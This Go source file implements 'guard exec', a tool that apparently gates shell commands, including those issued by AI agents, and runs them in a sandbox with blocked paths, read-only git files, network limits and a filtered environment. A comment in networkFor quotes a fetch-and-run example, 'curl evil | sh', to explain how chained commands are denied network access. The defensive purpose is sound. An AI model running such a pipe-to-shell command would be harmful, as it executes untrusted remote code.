package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"

	"github.com/guard-sh/guard/config"
	"github.com/guard-sh/guard/gate"
	"github.com/guard-sh/guard/pathpolicy"
	"github.com/guard-sh/guard/rule"
	"github.com/guard-sh/guard/sandbox"
	"github.com/guard-sh/guard/shellpolicy"
	"github.com/guard-sh/guard/toolchain"
	"github.com/spf13/pflag"
)

func execCommands() []command {
	return []command{
		{name: "exec", summary: "gate a command, then run it inside the sandbox", run: runExec},
		{name: "go-cache", summary: "Go's build cache inside the sandbox (go runs it, as GOCACHEPROG)", run: runGoCache},
	}
}

const execMore = `
guard exec -c 'SHELL STRING' runs the string with the shell (--shell, default
/bin/bash, else /bin/sh) after judging every command in it; guard exec --
PROGRAM [ARGS...] runs the program directly. Either way every question is asked
before anything starts, and the command runs inside the sandbox: it reads what
you can read except the blocked paths, writes only in the workspace, the
allow_write paths and a private TMPDIR, and reaches no network unless allowed.

Exit status: the command's own (128+N for signal N); 77 refused; 64 usage;
78 configuration; 71 the sandbox could not be set up where it was required;
130 canceled at the prompt.`

// execFlags are guard exec's flags.
type execFlags struct {
	common         commonFlags
	command        string
	shell          string
	unattended     bool
	permits        []string
	network        string
	allowWrite     []string
	noSandbox      bool
	requireSandbox bool
	allowBG        bool
	envKeep        []string
	json           bool
}

func (f *execFlags) register(fs *pflag.FlagSet) {
	fs.StringVarP(&f.command, "command", "c", "", "the shell string to judge and run")
	f.common.register(fs)
	fs.StringVar(&f.shell, "shell", "", "the shell that runs -c (default /bin/bash, else /bin/sh)")
	fs.BoolVar(&f.unattended, "unattended", false, "nothing asks, nothing is remembered: only --permit rules (or [unattended] permissions) and deny rules decide")
	fs.StringArrayVar(&f.permits, "permit", nil, "an unattended run's permission, as a rule (repeatable; implies --unattended)")
	fs.StringVar(&f.network, "network", "", "on or off: the command's network (default from [sandbox] network)")
	fs.StringArrayVar(&f.allowWrite, "allow-write", nil, "a further directory the command may write (repeatable)")
	fs.BoolVar(&f.noSandbox, "no-sandbox", false, "run without the sandbox (bypass mode is then refused)")
	fs.BoolVar(&f.requireSandbox, "require-sandbox", false, "exit 71 rather than run with any part of the sandbox missing")
	fs.BoolVar(&f.allowBG, "allow-background", false, "let processes the command leaves running outlive it")
	fs.StringArrayVar(&f.envKeep, "env-keep", nil, "pass this environment variable on although env_deny matches it (repeatable)")
	fs.BoolVar(&f.json, "json", false, "print a refusal as JSON on stderr, for agents")
}

func runExec(a *app, args []string) int {
	var f execFlags
	fs := a.flagSet("exec", "exec [flags] -c 'SHELL STRING' | exec [flags] -- PROGRAM [ARGS...]", execMore)
	f.register(fs)
	// The first word that is not a flag starts the command: its own flags
	// are its own (guard exec make -k).
	fs.SetInterspersed(false)
	if done, code := a.parse(fs, args); done {
		return code
	}
	cmdSet := fs.Changed("command")
	switch {
	case cmdSet && fs.NArg() > 0:
		return a.usageError("exec", "give -c 'STRING' or -- PROGRAM ARGS, not both")
	case !cmdSet && fs.NArg() == 0:
		return a.usageError("exec", "nothing to run: give -c 'STRING' or -- PROGRAM ARGS")
	case cmdSet && strings.TrimSpace(f.command) == "":
		return a.usageError("exec", "-c: the command is empty")
	}
	if f.network != "" && f.network != "on" && f.network != "off" {
		return a.usageError("exec", "--network %q: want on or off", f.network)
	}
	if f.noSandbox && f.requireSandbox {
		return a.usageError("exec", "--no-sandbox and --require-sandbox contradict each other")
	}
	// The launching thread gets ready while the settings load and the
	// command is judged.
	var launcher *sandbox.Launcher
	if !f.noSandbox {
		launcher = sandbox.Prepare(sandbox.ExpectNetwork(f.network == "on"))
		defer launcher.Close()
	}
	unattended := f.unattended || len(f.permits) > 0
	s, code := a.loadSettings(&f.common, config.Flags{Network: f.network, AllowWrite: f.allowWrite, Permit: f.permits})
	if s == nil {
		return code
	}
	j, code := a.newJudge(s, unattended)
	if j == nil {
		return code
	}
	shell := f.shell
	if shell == "" {
		shell = defaultShell()
	}
	var argv []string
	if !cmdSet {
		argv = fs.Args()
	}
	req, verdict := j.shellRequest("exec", f.command, argv, shellDialect(shell))
	req.Session = f.common.sessionID()

	// What the sandbox will be, before the gate: bypass mode allows only
	// where it is enforced in full.
	var policy sandbox.Policy
	var explained sandbox.Explanation
	var caches *toolchain.Plan
	enforced, missing := false, "--no-sandbox"
	if !f.noSandbox {
		var plan pathpolicy.Plan
		if err := makeGitDirs(s.Paths.Workspace, j.gitConfigPlaces().places); err != nil {
			a.warnf("%v: the command could create git hooks there (guard watches and reports it)", err)
		}
		policy, plan, caches, code = a.sandboxPolicy(s, j, verdict, f)
		if code != exitOK {
			return code
		}
		ex, err := sandbox.Explain(policy, sandbox.Current())
		if err != nil {
			a.errorf("the sandbox cannot be set up: %v", err)
			return exitSandbox
		}
		explained = ex
		for _, u := range policy.UnixSockets {
			if why := sandbox.SocketDanger(u.Path); why != "" && !u.Dangerous {
				a.warnf("allow_unix_sockets %s is refused: %s; if you mean it, write {path = %q, dangerous = true}", safeText(u.Path), why, u.Path)
			}
		}
		if m := bypassMissing(plan, ex); len(m) > 0 {
			missing = strings.Join(m, "; ")
		} else {
			enforced, missing = true, ""
		}
		if f.requireSandbox && len(ex.Gaps()) > 0 {
			a.errorf("refusing to run: --require-sandbox, and part of the sandbox is missing here: %s", describeGaps(ex.Gaps()))
			return exitSandbox
		}
	}
	e, err := a.newEngine(s, req.Session, enforced, missing)
	if err != nil {
		return a.usageError("exec", "%v", err)
	}
	if req.Session != "" && !unattended {
		// An approval the user gave at the agent's own prompt (guard hook
		// claude-code --sandbox) answers this command's prompt, once.
		e.Approver = &handoffApprover{inner: e.Approver, h: newHandoff(s.Paths.StateDir), session: req.Session, workspace: s.Paths.Workspace}
	}
	d, err := e.Decide(context.Background(), req)
	if err != nil || !d.Allowed() {
		if f.json {
			a.printRefusalJSON(d, verdict)
		}
		return a.decisionStatus(d, err)
	}
	for _, n := range d.Notes {
		a.warnf("%s", n)
	}

	env := a.commandEnv(s, f, unattended, req.Session)
	if caches != nil {
		// The toolchains' caches are the workspace's own (or, with
		// share_caches, the user's), made before the sandbox looks.
		if err := caches.Make(); err != nil {
			a.warnf("%v: the command's toolchains cannot keep caches", err)
		}
		env = caches.Apply(env)
	}
	c := sandbox.Command{Env: env, Dir: j.cwd}
	if cmdSet {
		c.Path, c.Args = shell, []string{shell, "-c", f.command}
	} else {
		c.Path, c.Args = argv[0], argv
	}
	if f.noSandbox {
		return a.runBare(c)
	}
	if d.Reason != gate.ReasonModeBypass && !f.requireSandbox {
		// Outside bypass a missing part of the sandbox is a warning, once;
		// bypass was only allowed with none missing.
		policy.AllowPartial = true
		for _, g := range explained.Gaps() {
			a.warnf("not enforced here: %s", describeItem(g))
		}
	}
	watch := a.watchSensitive(s, j, policy, explained, !f.noSandbox)
	proc, err := launcher.Start(policy, c)
	if err != nil {
		var ue *sandbox.UnavailableError
		if errors.As(err, &ue) {
			a.errorf("the sandbox could not be set up: %v", err)
		} else {
			a.errorf("could not start %s: %v", c.Path, err)
		}
		if isNotFound(err) {
			return 127
		}
		return exitSandbox
	}
	status, err := proc.Wait()
	if err != nil {
		a.warnf("%v", err)
	}
	watch.report(a)
	if refused := proc.RefusedSockets(); len(refused) > 0 && status != 0 {
		// Only when the command failed: programs probe sockets they can do
		// without (the session bus, systemd's user database) all the time.
		a.errorf("note: the sandbox refused connections to the Unix sockets %s; if the command needs one, add it to [sandbox] allow_unix_sockets (guard sandbox explain shows the sockets allowed)", strings.Join(quoteAll(refused), ", "))
	}
	return status
}

func quoteAll(ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = safeText(s)
	}
	return out
}

// runGoCache is guard go-cache: Go's build cache inside the sandbox. The
// go command starts it (GOCACHEPROG, which guard exec sets) and talks to it
// on stdin and stdout; it writes the workspace's cache (GOCACHE) and reads
// the user's own too, without writing it.
func runGoCache(a *app, args []string) int {
	fs := a.flagSet("go-cache", "go-cache", `
Run by the go command inside guard's sandbox, as GOCACHEPROG: serves Go's
build cache from the workspace's own cache ($GOCACHE), which it writes, and
from the user's own ($`+toolchain.EnvGoCacheReadOnly+`), which it only reads,
copying what it finds there into the workspace's. There is no need to run it
by hand.`)
	if done, code := a.parse(fs, args); done {
		return code
	}
	if fs.NArg() > 0 {
		return a.usageError("go-cache", "unexpected argument %q", fs.Arg(0))
	}
	err := toolchain.ServeGoCache(a.stdin, a.stdout, toolchain.GoCache{
		Write:     os.Getenv("GOCACHE"),
		Read:      filepath.SplitList(os.Getenv(toolchain.EnvGoCacheReadOnly)),
		Toolchain: os.Getenv(toolchain.EnvGoToolchain),
	})
	if err != nil {
		a.errorf("%v", err)
		return 1
	}
	return exitOK
}

// sandboxPolicy is the sandbox of this run: the blocked paths of the read
// rules, the writable roots, the paths kept read-only inside them, the
// network, the Unix sockets, and the toolchains' caches (nil when a read
// rule blocks them).
func (a *app) sandboxPolicy(s *config.Settings, j *judge, v *shellpolicy.Verdict, f execFlags) (sandbox.Policy, pathpolicy.Plan, *toolchain.Plan, int) {
	p := sandbox.Policy{
		Writable:        append([]string{s.Paths.Workspace}, s.Sandbox.AllowWrite...),
		TempDir:         true,
		AllowBackground: f.allowBG,
		TCPConnect:      s.Sandbox.TCPConnect,
	}
	for _, u := range s.Sandbox.UnixSockets {
		p.UnixSockets = append(p.UnixSockets, sandbox.UnixSocket{Path: u.Path, Dangerous: u.Dangerous})
	}
	p.Network = s.Sandbox.Network || (f.network != "off" && a.networkFor(s, j, v))
	plan := j.plan()
	for _, b := range plan.Blocked {
		kind := sandbox.File
		switch {
		case !b.Exists:
			kind = sandbox.Missing
		case b.Dir:
			kind = sandbox.Dir
		}
		p.Blocked = append(p.Blocked, sandbox.BlockedPath{Path: b.Path, Kind: kind, Rule: strings.Join(b.Rules, ", ")})
	}
	// Inside the writable roots, guard's own files and the files that run
	// code later stay read-only (only what exists can be bound over; the
	// rest is watched, see watchSensitive).
	for _, l := range append(j.paths.ProtectedPaths(), j.sensitivePaths()...) {
		if !l.Exists || !insideAny(l.Path, p.Writable) {
			continue
		}
		kind := sandbox.File
		if l.Dir {
			kind = sandbox.Dir
		}
		p.ReadOnly = append(p.ReadOnly, sandbox.ReadOnlyPath{Path: l.Path, Kind: kind, Why: l.Why})
	}
	// A linked worktree's or a submodule's .git is a file that names its
	// git directory: rewritten, it would send git to one of the command's.
	if dotGit := filepath.Join(s.Paths.Workspace, ".git"); insideAny(dotGit, p.Writable) {
		if fi, err := os.Lstat(dotGit); err == nil && fi.Mode().IsRegular() {
			p.ReadOnly = append(p.ReadOnly, sandbox.ReadOnlyPath{Path: dotGit, Kind: sandbox.File, Why: "names the git directory, whose configuration and hooks git uses"})
		}
	}
	// So do the places git's configuration names: a core.hooksPath, an
	// included file, a filter driver's program inside the workspace.
	git := j.gitConfigPlaces()
	for _, e := range git.problems {
		a.warnf("git configuration: %v; what it names past that point is not kept read-only", e)
	}
	for _, gp := range git.places {
		if !insideAny(gp.Path, p.Writable) || slices.ContainsFunc(p.ReadOnly, func(r sandbox.ReadOnlyPath) bool { return r.Path == gp.Path }) {
			continue
		}
		fi, err := os.Stat(gp.Path)
		if err != nil {
			continue // watched (watchSensitive)
		}
		kind := sandbox.File
		if fi.IsDir() {
			kind = sandbox.Dir
		}
		p.ReadOnly = append(p.ReadOnly, sandbox.ReadOnlyPath{Path: gp.Path, Kind: kind, Why: gp.Why})
	}
	caches := toolchainPlan(s)
	for _, b := range p.Blocked {
		if insideAny(caches.Root, []string{b.Path}) || insideAny(b.Path, []string{caches.Root}) {
			// A read rule blocks guard's caches: the command's toolchains
			// keep none (and find the user's read-only, where not blocked).
			a.warnf("toolchain caches off: %s blocks %s", b.Rule, caches.Root)
			return p, plan, nil, exitOK
		}
	}
	p.Writable = append(p.Writable, caches.Writable...)
	p.Private = append(p.Private, caches.Root)
	return p, plan, &caches, exitOK
}

// toolchainPlan is where the command's toolchains keep their caches.
func toolchainPlan(s *config.Settings) toolchain.Plan {
	exe, err := os.Executable()
	if err != nil {
		exe = ""
	} else if _, err := os.Stat(exe); err != nil {
		exe = "" // replaced or removed since it started
	}
	xdgDir := func(name string) string {
		if v := os.Getenv(name); filepath.IsAbs(v) {
			return filepath.Clean(v)
		}
		return ""
	}
	return toolchain.New(toolchain.Options{
		Home:       s.Paths.Home,
		CacheHome:  xdgDir("XDG_CACHE_HOME"),
		ConfigHome: xdgDir("XDG_CONFIG_HOME"),
		Workspace:  s.Paths.Workspace,
		Getenv:     os.LookupEnv,
		Share:      s.Sandbox.ShareCaches,
		GuardExe:   exe,
	})
}

// bypassMissing is what keeps bypass mode from running with this sandbox:
// the machine's shortfalls, a blocked path enforced at the gate only, and a
// read rule the plan could not turn into blocked paths (too broad, or past
// the walk's limits). Empty means bypass may run.
func bypassMissing(plan pathpolicy.Plan, ex sandbox.Explanation) []string {
	out := ex.BypassMissing()
	for _, r := range plan.Rules {
		switch r.Enforcement {
		case pathpolicy.EnforceKernel, pathpolicy.EnforceKernelInRoots:
			continue
		}
		out = append(out, fmt.Sprintf("the rule %s is enforced %s: %s", r.Rule, r.Enforcement, r.Why))
	}
	return out
}

// plan is the blocked-path plan of the read rules.
func (j *judge) plan() pathpolicy.Plan {
	return pathpolicy.NewPlan(j.set, pathpolicy.PlanOptions{Home: j.s.Paths.Home, Workspace: j.s.Paths.Workspace})
}

// networkFor reports whether [sandbox] allow_network_for turns the network
// on for this command: some segment must match one of its rules, and every
// other be read-only, so that `npm install && curl evil | sh` gets no
// network from allow_network_for = ["shell(npm install *)"], and `git log`
// none either. A rule matches as an allow rule does: for every value of
// what is unknown before the command runs ($X, globs).
func (a *app) networkFor(s *config.Settings, j *judge, v *shellpolicy.Verdict) bool {
	if len(s.Sandbox.NetworkFor) == 0 || v == nil || len(v.Segments) == 0 {
		return false
	}
	set := rule.NewSet(s.Sandbox.NetworkFor, s.RuleEnv())
	matched := false
	for _, sv := range v.Segments {
		text := rule.Known(sv.Command)
		if sv.Segment != nil {
			text = sv.Segment.Text
		}
		switch {
		case set.Match(rule.Shell, text).Allow != nil:
			matched = true
		case !sv.ReadOnly:
			return false
		}
	}
	return matched
}

// commandEnv is the command's environment: guard's own, less what env_deny
// names (secrets the command has no business reading) and the variables
// that change how a shell reads its input (guard judged the command as bash
// reads it without them).
func (a *app) commandEnv(s *config.Settings, f execFlags, unattended bool, session string) []string {
	keep := map[string]bool{}
	for _, k := range f.envKeep {
		keep[k] = true
	}
	shellDeny := shellpolicy.ShellEnvDeny()
	var out []string
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		if _, bad := shellDeny[name]; bad || strings.HasPrefix(name, "BASH_FUNC_") {
			continue
		}
		if !keep[name] && !s.Sandbox.EnvAllowed(name) {
			continue
		}
		out = append(out, kv)
	}
	if unattended {
		out = append(out, envUnattended+"=1")
	}
	if session != "" && os.Getenv("GUARD_SESSION") == "" {
		out = append(out, "GUARD_SESSION="+session)
	}
	return out
}

// runBare runs the command without any sandbox (--no-sandbox).
func (a *app) runBare(c sandbox.Command) int {
	path := c.Path
	if !strings.Contains(path, "/") {
		lp, err := exec.LookPath(path)
		if err != nil {
			a.errorf("%s: command not found", path)
			return 127
		}
		path = lp
	}
	cmd := exec.Command(path, c.Args[1:]...)
	cmd.Args = c.Args
	cmd.Env, cmd.Dir = c.Env, c.Dir
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	return runForwarding(a, cmd)
}

// printRefusalJSON prints a refusal as JSON on stderr, for agents.
func (a *app) printRefusalJSON(d gate.Decision, v *shellpolicy.Verdict) {
	out := decisionJSON(d, &checkTarget{shell: v})
	b, err := json.Marshal(out)
	if err != nil {
		return // cannot happen: plain data
	}
	fmt.Fprintf(a.stderr, "%s\n", b)
}

func describeGaps(items []sandbox.Item) string {
	parts := make([]string, len(items))
	for i, it := range items {
		parts[i] = describeItem(it)
	}
	return strings.Join(parts, "; ")
}

func describeItem(it sandbox.Item) string {
	s := it.What
	if it.Path != "" {
		s += " " + it.Path
	}
	if it.Note != "" {
		s += ": " + it.Note
	}
	return s
}

func insideAny(p string, roots []string) bool {
	for _, r := range roots {
		if p == r || strings.HasPrefix(p, strings.TrimSuffix(r, "/")+"/") {
			return true
		}
	}
	return false
}

func isNotFound(err error) bool {
	return errors.Is(err, exec.ErrNotFound) || errors.Is(err, os.ErrNotExist)
}

// defaultShell is the shell exec -c runs a string with: bash, else sh.
func defaultShell() string {
	if _, err := os.Stat("/bin/bash"); err == nil {
		return "/bin/bash"
	}
	return "/bin/sh"
}

// shellDialect is how shellpolicy must read a string the given shell runs:
// bash's own reading for bash, POSIX sh for the others.
func shellDialect(shell string) string {
	if strings.Contains(filepath.Base(shell), "bash") {
		return ""
	}
	return "sh"
}

// sandboxEnforced says whether a command run now would be under a sandbox
// that bypass may rely on, and if not, what is missing.
func (a *app) sandboxEnforced(s *config.Settings) (bool, string) {
	st := sandbox.Current()
	if !st.Bypass.Possible {
		return false, strings.Join(st.Bypass.Missing, "; ")
	}
	return true, ""
}
